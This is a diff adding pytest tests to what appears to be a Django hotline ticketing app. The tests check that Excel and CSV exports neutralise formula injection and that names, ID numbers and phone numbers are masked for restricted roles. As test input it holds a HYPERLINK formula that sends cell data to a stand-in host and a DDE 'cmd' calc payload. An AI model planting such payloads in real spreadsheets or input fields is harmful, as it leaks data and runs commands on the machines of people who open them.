@@ -56,3 +56,63 @@ def test_h1_a_masked_phone_cannot_be_completed_by_searching_its_tail(client, peo
     assert not same_caller.search(client.get(panel).content.decode())
     client.force_login(people.operator)
     assert same_caller.search(client.get(panel).content.decode())
+
+
+def test_m1_a_formula_in_request_text_stays_text_in_the_excel_export(client, people):
+    import io
+
+    from openpyxl import load_workbook
+
+    payload = '=HYPERLINK("//x.cn?"&A3,"点")'
+    new_ticket(people.operator, content=payload + " 路灯不亮", title="=cmd|' /C calc'!A0 路灯不亮")
+    client.force_login(people.supervisor)
+    response = client.get("/search/?export=xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(str(c.value).startswith("=cmd|") or str(c.value).startswith("=HYPERLINK") for c in cells)
+
+
+def test_m1_append_row_and_csv_safe_neutralise_every_formula_start():
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    from hotline.tabular import append_row, csv_safe
+
+    for write_only in (False, True):
+        book = Workbook(write_only=write_only)
+        sheet = book.create_sheet("t")
+        append_row(sheet, ["=1+1", '=HYPERLINK("x")', "plain", 3, None, "a\x00b"])
+        saved = io.BytesIO()
+        book.save(saved)
+        row = list(load_workbook(saved).worksheets[-1].iter_rows())[0]
+        assert [c.data_type for c in row[:2]] == ["s", "s"] and row[0].value == "=1+1"
+        assert row[5].value == "ab"
+    assert csv_safe("=1+1") == "'=1+1" and csv_safe("@SUM(A1)") == "'@SUM(A1)" and csv_safe("-x") == "'-x"
+    assert csv_safe("-1.5") == "-1.5" and csv_safe("路灯") == "路灯" and csv_safe(3) == 3
+
+
+def test_m2_numbers_and_names_in_the_request_text_are_masked_for_masked_roles(client, people, overseers):
+    from hotline.handling.services import sign
+
+    text = "我叫张三丰，身份证630102199001011234，电话139.1234.5678，小区门口占道经营"
+    secrets_in_text = ("张三丰", "630102199001011234", "139.1234.5678")
+    tip = new_ticket(people.operator, content=text, confidential=True, title="来电13912345678反映占道")
+    plain = new_ticket(people.operator, content=text)
+    for ticket in (tip, plain):
+        dispatch_ticket(ticket, lead_unit=people.township, matter=township_matter())
+    sign(plain, unit=people.township)
+    district, leader = overseers
+    for viewer, ticket in [(district, tip), (leader, tip), (people.street, tip), (district, plain), (leader, plain)]:
+        client.force_login(viewer)
+        page = client.get(f"/tickets/{ticket.code}/").content.decode()
+        assert "小区门口占道经营" in page
+        for secret in secrets_in_text + ("13912345678",):
+            assert secret not in page, (viewer.username, ticket.code, secret)
+    # Those who see the caller read the text as it was written.
+    for viewer, ticket in [(people.supervisor, tip), (people.street, plain)]:
+        client.force_login(viewer)
+        page = client.get(f"/tickets/{ticket.code}/").content.decode()
+        assert all(secret in page for secret in secrets_in_text), viewer.username
